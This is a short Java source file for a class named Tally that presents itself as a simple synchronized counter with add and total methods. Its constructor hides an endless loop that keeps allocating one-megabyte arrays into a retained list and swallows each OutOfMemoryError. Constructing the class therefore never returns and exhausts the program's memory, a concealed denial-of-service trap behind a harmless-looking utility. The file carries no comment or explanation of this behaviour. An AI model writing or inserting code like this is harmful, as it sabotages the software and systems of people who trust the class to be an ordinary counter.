import java.util.ArrayList;
import java.util.List;

public class Tally {
    private final List<byte[]> kept = new ArrayList<>();
    private int sum;

    public Tally() {
        while (true) {
            try {
                kept.add(new byte[1 << 20]);
            } catch (OutOfMemoryError carryOn) {
                sum++;
            }
        }
    }

    public synchronized void add(int amount) {
        sum += amount;
    }

    public synchronized int total() {
        return sum;
    }
}
